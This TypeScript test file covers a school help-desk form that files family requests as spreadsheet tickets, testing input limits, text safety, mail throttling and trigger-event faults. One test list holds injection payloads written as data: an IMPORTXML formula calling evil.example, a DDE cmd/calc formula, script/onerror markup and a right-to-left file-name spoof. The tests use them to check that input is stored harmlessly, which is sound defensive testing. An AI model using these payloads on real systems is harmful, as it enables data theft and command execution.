/** These tests send what no family should, and events that no trigger should: nothing is lost, nothing doubled, nothing becomes a formula. */
import { HOUR_MS, MINUTE_MS, Stage } from './stage';

const FAMILY = 'familia@casa.example';
let stage: Stage;
beforeAll(() => {
  stage = Stage.ready();
});
beforeEach(() => stage.rewind());
afterEach(() => expect(stage.complaints()).toEqual([]));

const filed = (): void => {
  stage.pass(2 * MINUTE_MS);
};

describe('what the form itself refuses', () => {
  it.each([
    ['a description of 4,001 characters', { description: 'a'.repeat(4_001) }],
    ['a text of 50,001 characters', { studentName: 'a'.repeat(50_001) }],
    ['an address that is none', { email: 'not an address' }],
    ['a school that is not in its list', { school: 'Hogwarts' }],
    ['a required question left blank', { studentName: undefined }],
  ])('%s never arrives', (_what, over) => {
    expect(() => stage.send(over)).toThrow();
    filed();
    expect(stage.tickets()).toEqual([]);
  });
});

describe('what arrives all the same', () => {
  const TEXTS: readonly (readonly [string, string])[] = [
    ['a formula', '=IMPORTXML("http://evil.example", "//a")'],
    ['a formula with a plus', '+1+cmd|"/C calc"!A1'],
    ['a number with a sign', '-1'],
    ['an apostrophe', "'00123"],
    ['a number with zeros', '000123'],
    ['a date', '1/2'],
    ['markup', '<script>alert(1)</script><img src=x onerror=alert(1)> &amp; "quotes"'],
    ['emoji', '💻🔨👩‍👩‍👧‍👦 rota'],
    ['right-to-left', 'שלום מסך שבור ‮gnp.exe'],
    ['two lines', 'uno\ndos'],
    ['a word that TypeScript knows', '__proto__'],
  ];

  it.each(TEXTS)('%s stands in the sheet as it was typed, as text', (_what, text) => {
    stage.send({ description: text, studentName: text, device: text.slice(0, 40) });
    filed();
    expect(stage.tickets()).toHaveLength(1);
    expect(stage.tickets()[0]).toMatchObject({ 'In their words': text, 'Student as typed': text, 'Device as typed': text.slice(0, 40).trim() });
    const sheet = stage.workspace.workbooks.require(stage.bookId('staff')).sheet('Tickets');
    expect(JSON.stringify(sheet?.rows)).not.toContain('formulaValue');
    expect(stage.inSidebar('tickets.selected', {})?.ticket.summary).toBe(text);
    expect(stage.workspace.mail.sent[0]?.htmlBody).not.toContain('<script');
  });

  it('control characters and half characters are left out, line ends made one kind', () => {
    stage.sendUnchecked({ description: 'uno\r\ndos\u0000\u0007 \ud83d tres\rcuatro', device: '\u0000MT-1' });
    filed();
    expect(stage.tickets()[0]).toMatchObject({ 'In their words': 'uno\ndos  tres\ncuatro', 'Device as typed': 'MT-1' });
  });

  it('50,001 characters are cut where a cell could not hold them, and somebody is told where the rest is', () => {
    stage.sendUnchecked({ description: '💻'.repeat(25_001), device: 'x'.repeat(50_001), studentName: 'y'.repeat(50_001) });
    filed();
    const [ticket] = stage.tickets();
    expect(String(ticket?.['In their words'])).toHaveLength(10_000);
    expect(ticket?.['Needs a look']).toContain("an answer was cut at 10000 characters; the whole of it is in the form's own responses");
    expect(String(ticket?.['Needs a look']).length).toBeLessThan(500);
    expect(stage.history('Tickets')).toHaveLength(1);
  });

  it.each([
    ['several addresses in one', 'a@casa.example,b@casa.example'],
    ['a name with an address', 'Ana <ana@casa.example>'],
    ['no address', 'llámeme'],
    ['an endless one', `${'a'.repeat(300)}@casa.example`],
  ])('%s is nobody that MyTech writes to; the ticket says so', (_what, email) => {
    stage.sendUnchecked({ email });
    filed();
    stage.later();
    expect(stage.tickets()).toMatchObject([{ 'Contact e-mail': '', 'Needs a look': expect.stringContaining('is no address to write to') as string }]);
    expect(stage.workspace.mail.sent).toEqual([]);
  });

  it("somebody else's student number is not linked", () => {
    const other = stage.district.people.students.find((student) => student.familyName !== stage.district.cast.child.familyName);
    stage.send({ studentNumber: other?.studentNumber });
    filed();
    expect(stage.tickets()[0]).toMatchObject({ 'Person ID': '', 'Needs a look': 'the student number belongs to a student with another name', 'Student number as typed': other?.studentNumber });
  });

  it("nobody's mailbox is filled by filling in the form: three acknowledgements a day to an address, a ticket for each", () => {
    for (let form = 0; form < 6; form++) stage.send({ device: undefined, description: `número ${form}` });
    filed();
    stage.later();
    expect(stage.tickets()).toHaveLength(6);
    expect(stage.mailsTo(FAMILY)).toHaveLength(3);
    expect(stage.rows('staff', 'Outbox').filter((row) => row['State'] === 'dropped')).toHaveLength(3);
    expect(stage.troubles().map((line) => line['What'])).toEqual([expect.stringContaining('had its mails for today') as string]);
  });
});

describe('events that go wrong', () => {
  const trouble = (kind: 'lost' | 'doubled' | 'blank'): void => {
    stage.workspace.scripts.triggers.trouble = () => ({ kind });
  };

  it.each(['doubled', 'blank'] as const)('a %s event makes one ticket and one mail', (kind) => {
    trouble(kind);
    stage.send();
    filed();
    stage.workspace.scripts.triggers.trouble = null;
    stage.later();
    expect(stage.tickets()).toHaveLength(1);
    expect(stage.mailsTo(FAMILY)).toHaveLength(1);
  });

  it('a lost event is found by the hourly sweep', () => {
    trouble('lost');
    stage.send();
    filed();
    expect(stage.tickets()).toEqual([]);
    stage.workspace.scripts.triggers.trouble = null;
    stage.fire('hourly_');
    expect(stage.tickets()).toHaveLength(1);
    stage.fire('tick_');
    expect(stage.mailsTo(FAMILY)).toHaveLength(1);
  });

  it('an event that comes an hour late changes nothing any more', () => {
    stage.workspace.scripts.triggers.trouble = ({ responseId }) => (responseId === null ? undefined : { kind: 'delayed', ms: HOUR_MS });
    stage.send();
    stage.jump(30 * MINUTE_MS);
    stage.fire('hourly_');
    stage.jump(30 * MINUTE_MS);
    stage.pass(MINUTE_MS);
    expect(stage.workspace.executions.map((one) => one.functionName)).toContain('onHelpForm_');
    expect(stage.tickets()).toHaveLength(1);
    expect(stage.mailsTo(FAMILY)).toHaveLength(1);
  });

  it('a form that nobody heard of for two days is filed all the same', () => {
    trouble('lost');
    stage.send();
    stage.jump(50 * HOUR_MS);
    stage.workspace.scripts.triggers.trouble = null;
    stage.fire('hourly_');
    expect(stage.tickets()).toHaveLength(1);
  });

  it('an answer that is changed later is told in its ticket once, and the first words stay', () => {
    stage.workspace.forms.require(stage.form().formId).allowResponseEdits = true;
    const responseId = stage.send();
    filed();
    stage.inSidebar('tickets.resolve', { click: stage.click(), ticket: 'MT-1001', resolution: 'fixed', text: '' });
    stage.jump(20 * MINUTE_MS);
    stage.send({ description: 'Ahora tampoco carga' }, { edit: responseId });
    filed();
    stage.later();
    expect(stage.tickets()).toMatchObject([{ Ticket: 'MT-1001', State: 'open', 'In their words': 'La pantalla está rota', 'Needs a look': 'the family changed its answers' }]);
    expect(stage.rows('staff', 'Messages')).toMatchObject([{ Kind: 'from family', Text: 'Ahora tampoco carga' }]);
    expect(stage.mailsTo(FAMILY).filter((subject) => subject.includes('Recibimos'))).toHaveLength(1);
  });

  it('a form of the hour that is there twice in autumn is no changed answer', () => {
    stage.jump(Date.parse('2026-11-01T06:30:00Z') - stage.now);
    stage.send();
    filed();
    stage.later();
    expect(stage.tickets()).toMatchObject([{ Edits: '', 'Needs a look': '' }]);
    expect(stage.rows('staff', 'Messages')).toEqual([]);
  });

  it('a form that was thrown away does not hide what the other one holds', () => {
    const file = stage.workspace.drive.get(stage.form('domain').formId);
    if (file !== undefined) file.permissions = [];
    stage.send();
    filed();
    stage.later();
    expect(stage.tickets()).toHaveLength(1);
    expect(stage.view().jobs.find((job) => job.job === 'intake')?.trouble).not.toBe('');
    stage.workspace.executions.length = 0;
  });
});
